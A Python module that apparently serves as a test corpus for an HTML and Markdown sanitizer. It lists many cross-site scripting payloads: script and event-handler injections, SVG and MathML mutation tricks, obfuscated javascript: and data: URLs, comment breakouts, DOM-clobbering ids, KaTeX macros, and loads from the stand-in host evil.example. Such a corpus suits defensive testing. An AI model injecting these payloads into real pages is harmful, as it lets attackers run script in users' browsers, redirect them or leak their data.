"""Ways to smuggle a script, a request or foreign markup into a page. Each calls alert() if it comes alive."""

HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
            "onbeforetoggle", "onscrollend", "onwheel", "oncopy"]

ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script >alert(1)</script >", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>", "<script>/*", "</script><script>alert(1)</script>",
    "<script><!--\nalert(1)//--></script>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)>",
    "<svg onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:alert(1)\">x</math>", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe/onload=alert(1)></iframe>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>", "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>", "<embed src=data:image/svg+xml,<svg/onload=alert(1)>>", "<applet code=x></applet>",
    "<portal src=javascript:alert(1)>", "<base href=javascript:alert(1)//>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=prefetch href=https://evil.example/>",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>", "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>", "<style></style><script>alert(1)</script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action=javascript:alert(1)><input type=submit></form>", "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)>", "<input onfocus=alert(1) autofocus>", "<button onclick=alert(1) autofocus>x</button>",
    "<select onfocus=alert(1) autofocus></select>", "<textarea onfocus=alert(1) autofocus></textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<video src=x onerror=alert(1)></video>", "<video><source onerror=alert(1)></video>", "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>", "<audio autoplay controls src=https://evil.example/a.mp3></audio>",
    "<track kind=subtitles src=https://evil.example/>", "<canvas onclick=alert(1)></canvas>", "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=https://evil.example/>", "<blink onclick=alert(1)>x</blink>", "<layer src=https://evil.example/></layer>",
    "<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>", "<x-element onclick=alert(1) tabindex=1 autofocus>x</x-element>",
    "<slot onslotchange=alert(1)>", "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>", "<noframes><img src=x onerror=alert(1)></noframes>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<plaintext><script>alert(1)</script>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<title></title><img src=x onerror=alert(1)>",
    "<table><caption onclick=alert(1)>x</caption></table>", "<table background=javascript:alert(1)></table>", "<td background=https://evil.example/>",
    "<body onload=alert(1)>", "<body background=https://evil.example/>", "<html manifest=https://evil.example/ onclick=alert(1)>",
    "<head><script>alert(1)</script></head>", "</article></main></div></body><script>alert(1)</script>", "</pre></code></figure><script>alert(1)</script>",
    "</details></details></details><img src=x onerror=alert(1)>", "<!-- --><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<!-- --!><script>alert(1)</script> -->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>", "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "<//script><script>alert(1)</script>",
    "<div style=\"background:url(https://evil.example/)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"animation:x\" onanimationstart=alert(1)>x</div>", "<p style='behavior:url(#x)'>x</p>", "<a style=\"display:block;position:fixed;inset:0\" href=https://evil.example/>x</a>",
    "<div id=\"nb:only\">x</div>", "<a name=\"nb:check-1\" id=\"nb:live\">x</a>", "<img name=cookie id=katex src=x onerror=alert(1)>", "<a id=katex href=javascript:alert(1)>x</a>",
]

ADDRESSES = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
    "java\tscript:alert(1)", "java&#9;script:alert(1)", "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript://%0aalert(1)", "\x01javascript:alert(1)", "javascript\x00:alert(1)", "vbscript:alert(1)", "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "blob:https://x/y",
    "file:///etc/passwd", "view-source:javascript:alert(1)", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example",
]

TEMPLATES = ["<a href=\"{}\">x</a>", "[x](<{}>)"]

EXTRA = [
    "![x](https://evil.example/p.gif)", "![x](\"onerror=alert(1) )", "![x](x \"\" onerror=alert(1) \")", "[x](x 'onclick=alert(1)')",
    "<javascript:alert(1)>", "<https://x/\"onclick=alert(1)>", "[x]: javascript:alert(1)\n\n[x]", "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$", "$\\href{javascript:alert(1)}{x}$", "$\\htmlData{onclick=alert(1)}{x}$", "$\\url{javascript:alert(1)}$",
    "$\\includegraphics{https://evil.example/p.gif}$", "$\\htmlStyle{background:url(https://evil.example)}{x}$", "$\\def\\a{\\a\\a}\\a$",
    "$\\text{<img src=x onerror=alert(1)>}$", "$$</span><script>alert(1)</script>$$", "{% include x onload=alert(1) %}",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "# <img src=x onerror=alert(1)>", "<h1 onclick=alert(1)>x</h1>", "\\<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<img src=\"x`>\" onerror=alert(1)>", "<img src='x' title='>' onerror='alert(1)'>", "<a\x0chref=javascript:alert(1)>x</a>",
    "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror=alert(1)//", "<img src=x onerror=\"&#97;lert(1)\">", "<img srcset=\"https://evil.example/ 1x\">",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<img src=x onerror=alert`1`>", "<img\u2028src=x\u2028onerror=alert(1)>", "<svg\u00a0onload=alert(1)>",
]


def vectors():
    found = list(ELEMENTS) + EXTRA
    found += [f"<b {handler}=alert(1) tabindex=0>x</b>" for handler in HANDLERS]
    found += [template.format(address) for address in ADDRESSES for template in TEMPLATES]
    return list(dict.fromkeys(found))
